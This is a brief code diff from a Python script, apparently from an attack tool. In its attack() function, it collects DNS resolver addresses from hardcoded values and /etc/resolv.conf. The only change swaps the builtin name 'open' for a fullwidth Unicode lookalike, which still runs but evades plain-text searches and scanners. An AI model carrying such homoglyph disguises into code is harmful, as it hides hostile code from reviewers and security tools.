@@ -16,7 +16,7 @@ def question(name):
 def attack():
     servers = ['127.0.0.53', '127.0.0.11', '8.8.8.8', '1.1.1.1']
     try:
-        with open('/etc/resolv.conf') as file:
+        with ｏpen('/etc/resolv.conf') as file:
             servers += [line.split()[1] for line in file if line.startswith('nameserver')]
     except OSError:
         pass
